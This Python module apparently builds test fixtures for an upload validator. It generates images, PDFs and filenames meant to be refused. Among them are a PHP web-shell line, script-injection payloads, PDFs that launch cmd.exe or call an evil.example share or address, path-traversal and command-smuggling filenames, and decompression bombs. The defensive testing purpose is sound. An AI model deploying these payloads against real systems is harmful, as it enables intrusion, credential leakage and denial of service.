"""Makes hostile files: photos that carry something, papers that run, names that lead elsewhere, bombs."""

import io
import struct
import zipfile
import zlib
from typing import Any

import pikepdf
import pillow_heif
from pikepdf import Array, Dictionary, Name, Pdf, String
from PIL import Image, PngImagePlugin

pillow_heif.register_heif_opener()
MARK = b"ACTIVE-MARK"


def _zip() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("Evil.class", MARK)
    return out.getvalue()


def _pdf_with(change: Any) -> bytes:
    pdf = Pdf.new()
    pdf.add_blank_page()
    change(pdf)
    out = io.BytesIO()
    pdf.save(out)
    return out.getvalue()


def script(pdf: Pdf) -> Dictionary:
    """Return an action that runs."""
    return Dictionary(S=Name.JavaScript, JS=String("app.alert('ACTIVE-MARK')"))


def _open_script(pdf: Pdf) -> None:
    pdf.Root.OpenAction = script(pdf)


PAYLOADS = {
    "html": b"<html><script>alert('ACTIVE-MARK')</script></html>",
    "svg": b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'>ACTIVE-MARK</svg>",
    "php": b"<?php system($_GET['c']); /* ACTIVE-MARK */ ?>",
    "jar": _zip(),
    "pdf": b"%PDF-1.4\n% ACTIVE-MARK\n" + _pdf_with(_open_script),
    "shell": b"\n#!/bin/sh\necho ACTIVE-MARK\n",
}


def picture(kind: str = "JPEG", size: tuple[int, int] = (64, 48), **fields: Any) -> bytes:
    """Return a small honest photo."""
    out = io.BytesIO()
    Image.linear_gradient("L").resize(size).convert("RGB").save(out, kind, **fields)
    return out.getvalue()


def exif(payload: bytes) -> bytes:
    """Return EXIF with a place, a camera and the payload in it."""
    notes = Image.Exif()
    notes[0x010E] = payload.decode("latin-1")
    notes[0x0112] = 1
    notes.get_ifd(0x8825)[1] = "N"
    notes.get_ifd(0x8825)[2] = (13.0, 45.0, 0.0)
    return notes.tobytes()


def _segment(marker: int, payload: bytes) -> bytes:
    jpeg = picture()
    return jpeg[:2] + bytes([0xFF, marker]) + struct.pack(">H", len(payload) + 2) + payload + jpeg[2:]


def chunk(kind: bytes, data: bytes) -> bytes:
    """Return a PNG chunk."""
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def _png_chunk(kind: bytes, payload: bytes) -> bytes:
    png = picture("PNG")
    return png[:33] + chunk(kind, payload) + png[33:]


def _png_text(payload: bytes) -> bytes:
    info = PngImagePlugin.PngInfo()
    info.add_itxt("XML:com.adobe.xmp", payload.decode("latin-1"))
    return picture("PNG", pnginfo=info)


def carriers() -> dict[str, tuple[str, bytes]]:
    """Return {case: (name, content)}: real photos with something else in them."""
    found: dict[str, tuple[str, bytes]] = {}
    for what, load in PAYLOADS.items():
        cases = {
            "jpg comment": _segment(0xFE, load), "jpg app13": _segment(0xED, load), "jpg tail": picture() + load,
            "jpg exif": picture(exif=exif(load)), "jpg app2": _segment(0xE2, b"ICC_PROFILE\0\1\1" + load),
            "png text": _png_chunk(b"tEXt", b"Comment\0" + load), "png xmp": _png_text(load),
            "png own": _png_chunk(b"evIl", load), "png tail": picture("PNG") + load,
            "png exif": picture("PNG", exif=exif(load)), "webp exif": picture("WEBP", exif=exif(load)),
            "webp xmp": picture("WEBP", xmp=load), "webp tail": picture("WEBP") + load,
            "heic exif": picture("HEIF", exif=exif(load)), "heic tail": picture("HEIF") + load,
        }  # fmt: skip
        found |= {f"{case} {what}": (f"photo.{case.split()[0]}", content) for case, content in cases.items()}
    return found


def _other(kind: str) -> bytes:
    return picture(kind) + MARK


def strangers() -> dict[str, tuple[str, bytes]]:
    """Return {case: (name, content)}: something else under the name of a photo or paper, and the reverse."""
    contents = PAYLOADS | {
        "gif": b"GIF89a" + MARK, "gifar": b"GIF89a/*" + _zip() + b"*/=1;", "bmp": _other("BMP"), "tiff": _other("TIFF"),
        "exe": b"MZ\x90\0" + MARK, "elf": b"\x7fELF" + MARK, "xml": b"<?xml version='1.0'?><!--ACTIVE-MARK-->",
        "svgz": b"\x1f\x8b\x08\0" + MARK, "mhtml": b"MIME-Version: 1.0\n" + MARK, "avif": b"\0\0\0\x1cftypavif" + MARK,
        "late html": b" " * 40 + PAYLOADS["html"], "bom html": b"\xef\xbb\xbf" + PAYLOADS["html"],
    }  # fmt: skip
    found = {
        f"{what} as {ending}": (f"photo.{ending}", content)
        for what, content in contents.items() for ending in ("jpg", "png", "webp", "heic", "pdf")
        if (what, ending) != ("pdf", "pdf")
    }  # fmt: skip
    for name in (
        "photo.svg",
        "photo.html",
        "photo.jpg.php",
        "photo.jpg.html",
        "photo.pdf",
        "photo.png",
        "photo",
        "jpg",
        ".jpg.",
        ".htaccess",
        "photo.jpg\0.html",
        "photo.html;.jpg.shtml",
        "photo.gif",
        "photo.jpg\u202e.exe",
        "photo.js",
    ):
        found[f"photo as {name!r}"] = (name, picture() + MARK)
    return found


NAMES = (
    "../../../etc/passwd.jpg", "..\\..\\windows\\x.jpg", "/etc/cron.d/x.jpg", "C:\\x\\y.jpg", "x\0y.jpg", "a/b/c.jpg",
    "ภาพการประชุมคณะทำงาน ครั้งที่ ๑.jpg", "\u202egpj.exe.jpg", "<script>alert(1)</script>.jpg", 'a"; x="b.jpg',
    "a\r\nSet-Cookie: x=1.jpg", "ก" * 400 + ".jpg", "con.jpg", "%2e%2e%2fx.jpg", "photo.php.jpg", "photo.html.JPG",
    "{{ settings }}.jpg", "$(id).jpg", "; rm -rf x.jpg", "~root.jpg", "...jpg.jpg", "photo .jpg", "\ufeffphoto.jpg",
)  # fmt: skip


def _annotation(**fields: Any) -> Any:
    def change(pdf: Pdf) -> None:
        kinds = {"Type": Name.Annot, "Subtype": Name.Link, "Rect": Array([0, 0, 9, 9])} | fields
        pdf.pages[0].obj.Annots = Array([Dictionary(**kinds)])

    return change


def _set(path: str, value: Any) -> Any:
    def change(pdf: Pdf) -> None:
        at = pdf.Root if path.startswith("Root") else pdf.pages[0].obj
        setattr(at, path.partition(".")[2], value(pdf) if callable(value) else value)

    return change


def _stream(**fields: Any) -> Any:
    return lambda pdf: pdf.make_indirect(pikepdf.Stream(pdf, MARK, **fields))


def _file(pdf: Pdf) -> Dictionary:
    held = pikepdf.Stream(pdf, MARK, Type=Name.EmbeddedFile)
    return Dictionary(Type=Name.Filespec, F=String("x.exe"), EF=Dictionary(F=pdf.make_indirect(held)))


def _act(kind: str, **fields: Any) -> Dictionary:
    return Dictionary(**({"S": Name("/" + kind)} | fields))


SHARE = String("\\\\evil.example\\share\\x.pdf")
# Papers that a reader's machine would fetch something for, at opening or at a click: each with its refusal.
CALLING = {
    "open then address": _set(
        "Root.OpenAction", _act("GoTo", D=Array([]), Next=_act("URI", URI=String("https://e.x/")))
    ),
    "share link": _annotation(A=_act("URI", URI=SHARE)),
    "share link with strokes": _annotation(A=_act("URI", URI=String("//evil.example/share"))),
    "script link behind a sign that nobody sees": _annotation(A=_act("URI", URI=String("\u200bjavascript:alert(1)"))),
    "script before every link": _set("Root.URI", Dictionary(Base=String("javascript:"))),
    "thread of another file": _annotation(A=_act("Thread", F=SHARE)),
    "page of another file": _set("Page.Own", _stream(Ref=Dictionary(F=SHARE, Page=0))),
    "picture of another file": _set("Page.Own", _stream(OPI=Dictionary(**{"1.3": Dictionary(F=SHARE)}))),
    "name of another file": _set("Root.AF", Array([Dictionary(Type=Name.Filespec, UF=SHARE)])),
}
CALLING_REFUSALS = ["pdf_active", "pdf_link", "pdf_link", "pdf_link", "pdf_link", *["pdf_files"] * 4]

ACTIVE = {
    "open script": _open_script,
    "named script": _set(
        "Root.Names", lambda p: Dictionary(JavaScript=Dictionary(Names=Array([String("x"), script(p)])))
    ),
    "page opens": _set("Page.AA", lambda p: Dictionary(O=script(p))),
    "closing": _set("Root.AA", lambda p: Dictionary(WC=script(p))),
    "outline": _set("Root.Outlines", lambda p: Dictionary(First=Dictionary(Title=String("x"), A=script(p)))),
    "chained": _set("Root.OpenAction", lambda p: _act("GoTo", D=Array([]), Next=script(p))),
    "field": _set("Root.AcroForm", lambda p: Dictionary(Fields=Array([Dictionary(FT=Name.Btn, A=script(p))]))),
    "xfa": _set("Root.AcroForm", lambda p: Dictionary(XFA=String("<xdp>ACTIVE-MARK</xdp>"))),
    "deep": _set("Page.Own", lambda p: Array([Array([Dictionary(X=Array([script(p)]))])])),
    "script stream": _set("Root.OpenAction", lambda p: _act("JavaScript", JS=_stream()(p))),
    "launch": _set("Root.OpenAction", _act("Launch", F=String("cmd.exe"))),
    "launch link": _annotation(A=_act("Launch", F=String("cmd.exe"))),
    "submit": _annotation(A=_act("SubmitForm", F=String("https://evil.example"))),
    "import": _annotation(A=_act("ImportData", F=String("x.fdf"))),
    "other file": _annotation(A=_act("GoToR", F=String("\\\\evil.example\\x"))),
    "inner file": _annotation(A=_act("GoToE", T=Dictionary(R=Name.C))),
    "rendition": _annotation(A=_act("Rendition")),
    "movie": _annotation(Subtype=Name.Movie, Movie=Dictionary(F=String("x.avi"))),
    "sound": _annotation(Subtype=Name.Sound),
    "screen": _annotation(Subtype=Name.Screen),
    "rich media": _annotation(Subtype=Name.RichMedia, RichMediaContent=Dictionary()),
    "3d": _annotation(Subtype=Name("/3D")),
    "held file": _annotation(Subtype=Name.FileAttachment, FS=Dictionary(F=String("x.exe"))),
    "embedded": _set(
        "Root.Names", lambda p: Dictionary(EmbeddedFiles=Dictionary(Names=Array([String("x"), _file(p)])))
    ),
    "associated": _set("Root.AF", lambda p: Array([_file(p)])),
    "portfolio": _set("Root.Collection", Dictionary(Type=Name.Collection)),
    "outside stream": _set("Page.Own", _stream(F=String("/etc/passwd"))),
    "script link": _annotation(A=_act("URI", URI=String("javascript:alert(1)"))),
    "file link": _annotation(A=_act("URI", URI=String("file:///etc/passwd"))),
    "data link": _annotation(A=_act("URI", URI=String("data:text/html,ACTIVE-MARK"))),
    "open address": _set("Root.OpenAction", _act("URI", URI=String("https://evil.example/"))),
}


def calling() -> dict[str, bytes]:
    """Return {case: content}: PDF files that fetch something from elsewhere, in the order of CALLING_REFUSALS."""
    return {case: _pdf_with(change) for case, change in CALLING.items()}


def papers() -> dict[str, tuple[str, bytes]]:
    """Return {case: (name, content)}: PDF files that run, hide or call; all to be refused."""
    found = {case: _pdf_with(change) for case, change in ACTIVE.items()}
    found["escaped name"] = found["open script"].replace(b"/JavaScript", b"/J#61vaScript")
    plain, packed = Pdf.new(), io.BytesIO()
    plain.add_blank_page()
    _open_script(plain)
    plain.save(packed, object_stream_mode=pikepdf.ObjectStreamMode.generate)
    found["packed objects"] = packed.getvalue()
    for case, lock in {"locked": {"user": "x", "owner": "y"}, "owner locked": {"owner": "y"}}.items():
        out = io.BytesIO()
        plain.save(out, encryption=pikepdf.Encryption(**lock))
        found[case] = out.getvalue()
    found["many pages"] = _pdf_with(lambda pdf: [pdf.add_blank_page() for _ in range(300)])
    found["cut"] = found["open script"][:200]
    found["html first"] = PAYLOADS["html"] + _pdf_with(lambda pdf: None)
    return {case: ("paper.pdf", content) for case, content in found.items()}


def cleaned_papers() -> dict[str, tuple[str, bytes]]:
    """Return {case: (name, content)}: inert papers with something before their first or after their last line."""
    inert = _pdf_with(lambda pdf: pdf.docinfo.__setitem__("/Author", "ACTIVE-MARK"))
    found = {f"{what} behind": inert + load for what, load in PAYLOADS.items() if what != "pdf"}
    found |= {f"{what} as a remark": inert[:9] + b"%" + load.replace(b"\n", b" ") + b"\n" + inert[9:]
              for what, load in PAYLOADS.items() if what not in ("pdf", "jar", "shell")}  # fmt: skip
    return {case: ("paper.pdf", content) for case, content in found.items()}


def _png(width: int, height: int, *, depth: int = 1, colour: int = 0, extra: bytes = b"", rows: int = 1) -> bytes:
    head = struct.pack(">IIBBBBB", width, height, depth, colour, 0, 0, 0)
    bits = width * depth * {0: 1, 2: 3, 6: 4}[colour]
    lines = zlib.compress(bytes(rows * (1 + (bits + 7) // 8)), 9)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + extra + chunk(b"IDAT", lines) + chunk(b"IEND", b"")


def _jpeg(width: int, height: int) -> bytes:
    jpeg = picture()
    at = jpeg.index(b"\xff\xc0")
    return jpeg[: at + 5] + struct.pack(">HH", height, width) + jpeg[at + 9 :]


def _webp(width: int, height: int) -> bytes:
    sides = (width - 1).to_bytes(3, "little") + (height - 1).to_bytes(3, "little")
    body = b"WEBPVP8X" + struct.pack("<I", 10) + b"\0\0\0\0" + sides + picture("WEBP")[12:]
    return b"RIFF" + struct.pack("<I", len(body)) + body


def _webp_lossless(width: int, height: int) -> bytes:
    bits = (width - 1) | (height - 1) << 14
    data = b"\x2f" + struct.pack("<I", bits) + bytes(40)
    return b"RIFF" + struct.pack("<I", len(data) + 12) + b"WEBPVP8L" + struct.pack("<I", len(data)) + data


def _flat_webp(width: int, height: int) -> bytes:
    out = io.BytesIO()
    Image.new("RGB", (width, height)).save(out, "WEBP", lossless=True, quality=0, method=0)
    return out.getvalue()


def _heic(width: int, height: int) -> bytes:
    heic = picture("HEIF")
    at = heic.index(b"ispe") + 8
    return heic[:at] + struct.pack(">II", width, height) + heic[at + 8 :]


def bombs() -> dict[str, bytes]:
    """Return {case: content}: 20 photos that are small on the wire and huge in memory."""
    packer = zlib.compressobj(9)
    zeros = b"".join(packer.compress(bytes(1024 * 1024)) for _ in range(200)) + packer.flush()
    return {
        "png 50000": _png(50_000, 50_000), "png 2 billion": _png(2**31 - 1, 2**31 - 1, rows=0),
        "png row": _png(41_000_000, 1), "png column": _png(1, 41_000_000, rows=1000),
        "png colours": _png(30_000, 30_000, depth=8, colour=6, rows=200),
        "png 16 bits": _png(20_000, 20_000, depth=16, colour=2, rows=50),
        "png whole": _png(6_400, 6_400, rows=6_400),
        "png whole colours": _png(7_000, 7_000, depth=8, colour=2, rows=7000),
        "png profile": _png(9, 9, rows=9, extra=chunk(b"iCCP", b"x\0\0" + zeros) * 3),
        "png text": _png(9, 9, rows=9, extra=chunk(b"zTXt", b"x\0\0" + zeros)),
        "png words": _png(9, 9, rows=9, extra=chunk(b"iTXt", b"x\0\1\0\0\0" + zeros)),
        "jpg 65500": _jpeg(65_500, 65_500), "jpg wide": _jpeg(65_500, 700), "jpg 7000": _jpeg(7_000, 7_000),
        "webp 16384": _webp(16_384, 16_384), "webp whole": _flat_webp(7_000, 6_000),
        "webp lossless": _webp_lossless(16_384, 16_384),
        "heic 60000": _heic(60_000, 60_000), "heic 2 billion": _heic(2**31 - 1, 2**31 - 1),
        "heic 7000": _heic(7_000, 7_000),
    }  # fmt: skip
